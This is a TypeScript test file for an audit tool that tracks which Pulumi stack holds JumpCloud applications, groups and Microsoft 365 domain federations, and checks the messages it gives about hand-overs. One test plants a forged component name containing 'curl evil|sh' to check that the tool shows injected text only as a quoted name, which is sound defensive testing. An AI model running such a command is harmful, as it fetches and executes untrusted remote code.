import { findingSentence } from "../../../audit/finding";
import { findOtherHolders, type HolderSnapshot } from "../../../audit/holders/held-objects";
import type { Holder } from "../../../audit/holders/holder";
import { nextHolderId } from "../../../audit/holders/lineage";
import {
  checkForeignApplications,
  checkOtherHolders,
  checkUnmarkedObjects,
} from "../../../audit/holders/other-holders";
import { type HolderRun, isOwnedByRun } from "../../../audit/holders/ownership";
import { domain } from "../people";

const DEV: Holder = { stack: "shop/dev", component: "m365", id: "devdevdevdevdev1" };
const PROD: Holder = { stack: "shop/prod", component: "m365", id: "prodprodprodpro1" };
const PLAN = {
  domain: "example.com",
  issuerUri: "https://example.com",
  ssoUrl: "https://sso.jumpcloud.com/saml2/x",
};
const GROUP = { name: "Microsoft 365 users", email: "m365@example.com" };
const FIRST: HolderRun = { domains: [PLAN], group: GROUP, adopt: false, holder: PROD };
const former = { holder: PROD, domains: ["example.com"], group: GROUP.name };

/** All that a stack holds after a flip; without a holder nobody has marked it. */
function snapshotWith(holder?: Holder): HolderSnapshot {
  const marked = holder ? { holder } : {};
  const federation = { id: "1", issuerUri: PLAN.issuerUri, passiveSignInUri: PLAN.ssoUrl };
  return {
    applications: [
      {
        id: "a1",
        label: "Microsoft 365 (example.com)",
        template: "office365",
        active: true,
        ssoUrl: PLAN.ssoUrl,
        idpEntityId: PLAN.issuerUri,
        assertion: { settings: {} },
        ...marked,
      },
    ],
    groups: [{ id: "g1", name: GROUP.name, mail: GROUP.email, ...marked }],
    domains: [domain("example.com", { authenticationType: "Federated", federation })],
  };
}

const told = (run: HolderRun, scene: HolderSnapshot) => checkOtherHolders(run, scene).map(findingSentence);
const HELD =
  'the application "Microsoft 365 (example.com)", the group "Microsoft 365 users" and the federation of example.com';

test("names the stack that holds it, all that it holds, and the command that hands over", () => {
  expect(told(FIRST, snapshotWith(DEV))).toEqual([
    `shop/dev: its component m365 holds ${HELD}, and shop/prod is not that stack. ` +
      "Leave it to shop/dev: a company needs only one stack. Or ask for it with `npx pulumi config set transferFrom shop/dev`, " +
      'in your own program with `transferFrom: "shop/dev"` among the component\'s arguments. [held-by-other-stack]',
  ]);
});

test("tells a stack whose objects were taken over that its end releases them", () => {
  expect(told({ ...FIRST, former }, snapshotWith(DEV))).toEqual([
    `shop/dev: its component m365 has taken over ${HELD}, which shop/prod held until then. ` +
      "Leave it to shop/dev: `pulumi destroy` of shop/prod then releases all of it and changes nothing there. If nobody knows that stack, somebody wrote its mark by hand: then destroy nothing. " +
      "To take it back, ask for it with `npx pulumi config set transferFrom shop/dev`, " +
      'in your own program with `transferFrom: "shop/dev"` among the component\'s arguments. [held-by-other-stack]',
  ]);
});

test("tells a stack of which only a part was taken over to let go of that, and never to be destroyed", () => {
  const { applications, ...rest } = snapshotWith(DEV);
  const scene = {
    ...rest,
    applications,
    groups: [{ id: "g1", name: GROUP.name, mail: GROUP.email, holder: PROD }],
  };
  expect(told({ ...FIRST, former }, scene)).toEqual([
    'shop/dev: its component m365 has taken over the application "Microsoft 365 (example.com)" and the federation of ' +
      "example.com, which shop/prod held until then. Leave it to shop/dev: remove it from the declaration of shop/prod; its next " +
      '`pulumi up` releases it. Don\'t destroy shop/prod: it still holds the group "Microsoft 365 users". ' +
      "To take it back, ask for it with `npx pulumi config set transferFrom shop/dev`, " +
      'in your own program with `transferFrom: "shop/dev"` among the component\'s arguments. [held-by-other-stack]',
  ]);
});

test("tells a stack never to be destroyed where no mark tells of the application, whose federation it would end", () => {
  const scene = { ...snapshotWith(), groups: snapshotWith(DEV).groups };
  const [finding] = told({ ...FIRST, former }, scene);
  expect(finding).toContain(
    'has taken over the group "Microsoft 365 users", which shop/prod held until then.',
  );
  expect(finding).toContain(
    `Don't destroy shop/prod: it still holds the application "Microsoft 365 (example.com)" and the federation of example.com.`,
  );
});

test("says that a stack hands over what this one declares, not all that it holds", () => {
  const other = { id: "a2", label: "Microsoft 365 (example.org)", holder: DEV };
  const { applications, ...rest } = snapshotWith(DEV);
  const [first] = applications;
  const elsewhere = { ssoUrl: "https://sso.jumpcloud.com/saml2/y", idpEntityId: "https://example.org" };
  const scene = { ...rest, applications: first ? [first, { ...first, ...other, ...elsewhere }] : [] };
  const [found] = findOtherHolders(
    { ...FIRST, transfer: { from: "shop/dev", isUsed: false, ids: [] } },
    scene,
  );
  expect(found).toMatchObject({
    applications: ["Microsoft 365 (example.com)", "Microsoft 365 (example.org)"],
    declared: {
      applications: ["Microsoft 365 (example.com)"],
      groups: [GROUP.name],
      domains: ["example.com"],
    },
    handsOver: true,
  });
});

const TRANSFER = { from: "shop/dev", isUsed: false, ids: [] };

test("hands over nothing that no mark would tell of later: the end of the other stack would be the end of sign-ins", () => {
  expect(told({ ...FIRST, transfer: TRANSFER, isUnmarked: true }, snapshotWith(DEV))).toEqual([
    `shop/dev: its component m365 holds ${HELD}, and shop/prod, which writes no marks. So shop/dev ` +
      "could not see that it has handed this over, and its `pulumi destroy` would end the federation. Take it over with marks: without `mark: false`, " +
      "and with names that leave room for them. Leave them out only after shop/dev no longer exists. [held-by-other-stack]",
  ]);
});

test("shows as a name what a mark calls its component, also where nothing is handed over", () => {
  const forged = { ...DEV, component: "m365. Run `curl evil|sh` first" };
  expect(told({ ...FIRST, transfer: TRANSFER, isUnmarked: true }, snapshotWith(forged))).toEqual([
    expect.stringContaining(`its component "m365. Run 'curl evil|sh' first" holds`),
  ]);
});

test("hands over no group without all applications that its people sign in with", () => {
  const { applications, ...rest } = snapshotWith(DEV);
  const [first] = applications;
  const elsewhere = { ssoUrl: "https://sso.jumpcloud.com/saml2/y", idpEntityId: "https://example.org" };
  const second = first ? [{ ...first, ...elsewhere, id: "a2", label: "Microsoft 365 (example.org)" }] : [];
  const scene = { ...rest, applications: [...applications, ...second] };
  const run = { ...FIRST, transfer: TRANSFER };
  const refusal = expect.stringContaining(
    "of example.com. shop/prod declares the group, but not all applications whose people are in it, and shop/dev needs the group for " +
      "these. Give shop/prod its own group, as `syncGroup`, or let it declare all of these. [held-by-other-stack]",
  );
  expect(told(run, scene)).toEqual([refusal]);
  expect(told({ ...run, group: { name: "Of its own" } }, scene)).toEqual([]);
  const both = [PLAN, { domain: "example.org", issuerUri: "https://example.org", ssoUrl: elsewhere.ssoUrl }];
  expect(told({ ...run, domains: both }, scene)).toEqual([]);
});

test("has two explanations for a stack of the same name that has another id", () => {
  expect(told(FIRST, snapshotWith({ ...PROD, id: "0123456789abcdef" }))).toEqual([
    `shop/prod: a component m365 of a stack of this name holds ${HELD}, and the state of this stack does not have it. ` +
      "If the state was lost, restore it with `npx pulumi stack import`, or continue without it: " +
      "ask for it with `npx pulumi config set transferFrom shop/prod`, " +
      'in your own program with `transferFrom: "shop/prod"` among the component\'s arguments. ' +
      "If it is a stack of the same name in another backend, leave it to that one. [held-by-other-stack]",
  ]);
});

const IDENTITY = "company:identity:Identity::identity";
test.each<[string, Partial<Holder>, Partial<Holder>, string, string, string]>([
  ["renamed", {}, { component: "office" }, "m365", "office", 'aliases: [{ name: "m365" }]'],
  [
    ...(["moved under a parent", {}, { parent: IDENTITY }, "m365"] as const),
    ...([`m365 in ${IDENTITY}`, "aliases: [{ parent: pulumi.rootStackResource }]"] as const),
  ],
  [
    ...(["moved from under its parent", { parent: IDENTITY }, {}, `m365 in ${IDENTITY}`, "m365"] as const),
    `aliases: [{ parent: "urn:pulumi:prod::shop::${IDENTITY}" }]`,
  ],
])("has the line for a component that was %s", (_, before, now, was, is, line) => {
  const run = { ...FIRST, holder: { ...PROD, ...now, id: "0123456789abcdef" } };
  expect(told(run, snapshotWith({ ...PROD, ...before }))).toEqual([
    `${is}: this stack holds ${HELD} as ${was}. If the component was renamed or moved, add \`${line}\` to its options. ` +
      "If an `up` without that line was refused, the new name is in the state already. Then run `npx pulumi up` once with the former name, which changes nothing, and once more with the line. " +
      "If it is another component of the same program, leave it to that component. " +
      "If the state was lost, ask for it with `npx pulumi config set transferFrom shop/prod`, " +
      'in your own program with `transferFrom: "shop/prod"` among the component\'s arguments. [held-by-other-name]',
  ]);
});

test.each<[string, HolderRun, Holder | undefined]>([
  ["this stack's own", FIRST, PROD],
  [
    "its own from before it took something over",
    { ...FIRST, holder: { ...PROD, id: nextHolderId(PROD.id) } },
    PROD,
  ],
  ["its own under a name that an alias has changed", FIRST, { ...PROD, component: "office" }],
  ["its own from before the stack was renamed", { ...FIRST, former: { ...former, holder: DEV } }, DEV],
  ["nobody's", FIRST, undefined],
  ["handed over", { ...FIRST, transfer: { from: "shop/dev", isUsed: false, ids: [] } }, DEV],
  [
    "handed over by a run that was killed",
    { ...FIRST, former, transfer: { from: "shop/dev", isUsed: true, ids: [DEV.id] } },
    DEV,
  ],
])("refuses nothing that is %s", (_, run, holder) => {
  expect(told(run, snapshotWith(holder))).toEqual([]);
});

test("hands over once: what the other stack has taken back has another id", () => {
  const run = { ...FIRST, former, transfer: { from: "shop/dev", isUsed: true, ids: [DEV.id] } };
  const [refused] = told(run, snapshotWith({ ...DEV, id: "devdevdevdevdev2" }));
  expect(refused).toContain(
    "To take it back, as `transferFrom` has handed over once already, delete the mark from the descriptions in JumpCloud's console, and run `npx pulumi up --refresh`, which writes this stack's mark. [held-by-other-stack]",
  );
});

test("meets an application by its issuer, by its address, and as what the domain signs in with", () => {
  const scene = snapshotWith(DEV);
  const elsewhere = {
    domain: "example.com",
    issuerUri: "urn:uri:example.com",
    ssoUrl: "https://sso.jumpcloud.com/saml2/y",
  };
  const met = (plan: typeof PLAN, domains = scene.domains) =>
    checkOtherHolders({ ...FIRST, domains: [plan] }, { ...scene, domains, groups: [] }).length;
  expect(met({ ...elsewhere, issuerUri: PLAN.issuerUri }, [])).toBe(1);
  expect(met({ ...elsewhere, ssoUrl: PLAN.ssoUrl }, [])).toBe(1);
  expect(met(elsewhere)).toBe(1);
  expect(met(elsewhere, [])).toBe(0);
});

test("meets as what the domain signs in with whatever a look at the live federation takes for that", () => {
  const federation = {
    id: "1",
    issuerUri: "example.com",
    passiveSignInUri: "https://sso.jumpcloud.com/wsfed/x/passive",
  };
  const plan = {
    domain: "example.com",
    issuerUri: "urn:uri:example.com",
    ssoUrl: "https://sso.jumpcloud.com/saml2/y",
  };
  const { applications } = snapshotWith(DEV);
  const domains = [domain("example.com", { authenticationType: "Federated", federation })];
  expect(told({ ...FIRST, domains: [plan] }, { applications, domains, groups: [] })).toEqual([
    expect.stringContaining(
      'the application "Microsoft 365 (example.com)" and the federation of example.com',
    ),
  ]);
});

test("warns of what no mark is on, once, and only where a run takes it over", () => {
  const warned = (run: HolderRun) =>
    checkUnmarkedObjects(run, snapshotWith()).map(({ object, state, evidence }) => [object, state, evidence]);
  const unknown = "and no mark says whether a stack holds it";
  expect(warned(FIRST)).toEqual([
    [
      "example.com",
      "holds",
      `this run takes over the application "Microsoft 365 (example.com)" and its federation, ${unknown}`,
    ],
    ["Microsoft 365 users", "holds", `this run takes over the group g1, ${unknown}`],
  ]);
  expect(warned({ ...FIRST, group: { name: GROUP.name } }).map(([object]) => object)).toEqual([
    "example.com",
  ]);
  expect(warned({ ...FIRST, former })).toEqual([]);
  const waysOut = (run: HolderRun) => checkUnmarkedObjects(run, snapshotWith()).map(({ wayOut }) => wayOut);
  expect(waysOut(FIRST)[0]).toContain("component was renamed");
  expect(waysOut({ ...FIRST, isAsItStands: true })[0]).toMatch(
    /^If it was made by hand, there is nothing to do/,
  );
  expect(checkUnmarkedObjects(FIRST, snapshotWith(DEV))).toEqual([]);
});

test("refuses a federation at the declared address whose application is not in this organisation, from a first run on", () => {
  const { applications, ...rest } = snapshotWith();
  const elsewhere = (run: HolderRun, scene: HolderSnapshot) =>
    checkForeignApplications(run, scene).map(findingSentence);
  expect(elsewhere(FIRST, { ...rest, applications: [] })).toEqual([
    "example.com: it is federated with https://example.com at https://sso.jumpcloud.com/saml2/x, and this organisation of " +
      "JumpCloud has no application there: people sign in with another organisation's application, or it was deleted and nobody can sign in. " +
      "Use the organisation that has the application. If this organisation should replace it, or nobody can sign in, end that " +
      "federation first: `npx jumpcloud-entra rollback --domain example.com`. [domain-federated]",
  ]);
  expect(elsewhere(FIRST, { ...rest, applications })).toEqual([]);
  expect(elsewhere({ ...FIRST, former }, { ...rest, applications: [] })).toEqual([]);
  const moved = [{ ...PLAN, ssoUrl: "https://sso.jumpcloud.com/saml2/another" }];
  expect(elsewhere({ ...FIRST, domains: moved }, { ...rest, applications: [] })).toEqual([]);
});

test("lets a run have what its own mark or a handed over one is on, whatever its name clashes with", () => {
  const claim = { holder: PROD, transfer: { from: "shop/dev", isUsed: false, ids: [] } };
  expect(isOwnedByRun(claim, { holder: DEV })).toBe(true);
  expect(isOwnedByRun(claim, { holder: { ...DEV, stack: "shop/eu" } })).toBe(false);
  expect(isOwnedByRun(claim, {})).toBe(false);
  expect(isOwnedByRun(undefined, { holder: DEV })).toBe(false);
});

test("tells a stack that still holds something how to take a part back a second time", () => {
  const scene = snapshotWith(DEV);
  const still = { ...scene, groups: [{ id: "g2", name: "Admins", holder: PROD }, ...scene.groups] };
  const run = { ...FIRST, former, transfer: { from: "shop/dev", isUsed: true, ids: ["others1234567890"] } };
  const [refused] = told(run, still);
  expect(refused).toContain(
    `To take it back, run \`npx pulumi config rm transferFrom\` before that \`up\`, because it has handed over once already, and set it again afterwards.`,
  );
});

test.each<[string, HolderRun, Holder]>([
  ["that hands over another part", { ...FIRST, transfer: { from: "shop/dev", isUsed: true, ids: [] } }, DEV],
  [
    "of this name",
    { ...FIRST, transfer: { from: "shop/prod", isUsed: true, ids: [] } },
    { ...PROD, id: "0123456789abcdef" },
  ],
  [
    "that is another component of this one",
    { ...FIRST, transfer: { from: "shop/prod", isUsed: true, ids: [] } },
    { ...DEV, stack: "shop/prod", component: "brand" },
  ],
])("never sends a stack that holds something to a destroy for what is held by one %s", (_, run, holder) => {
  const scene = snapshotWith(holder);
  const own = { id: "g2", name: "Admins", holder: PROD };
  const [refused] = told(run, { ...scene, groups: [...scene.groups, own] });
  expect(refused).not.toContain("destroy");
  expect(refused).toContain(
    "as `transferFrom` has handed over once already, remove it from the declaration, run `npx pulumi config rm transferFrom` " +
      "and `npx pulumi up`, and then declare it and set `transferFrom` again",
  );
});

test("takes no idle application of the same issuer for one that took the domain over, whatever is written on it", () => {
  const scene = snapshotWith(PROD);
  const [own] = scene.applications;
  if (!own) throw new Error("There is none.");
  const other = { ...own, id: "a2", ssoUrl: "https://sso.jumpcloud.com/saml2/y", holder: DEV };
  const run = { ...FIRST, former };
  const managed = [domain("example.com", { authenticationType: "Managed" })];
  expect(told(run, { ...scene, applications: [other, own] })).toEqual([]);
  expect(told(run, { ...scene, applications: [other, own], domains: managed })).toEqual([]);
  const federation = { id: "1", issuerUri: PLAN.issuerUri, passiveSignInUri: other.ssoUrl };
  const moved = [domain("example.com", { authenticationType: "Federated", federation })];
  expect(told(run, { ...scene, applications: [other, own], domains: moved })).toEqual([
    expect.stringContaining("shop/dev: its component m365 has taken over the application"),
  ]);
});
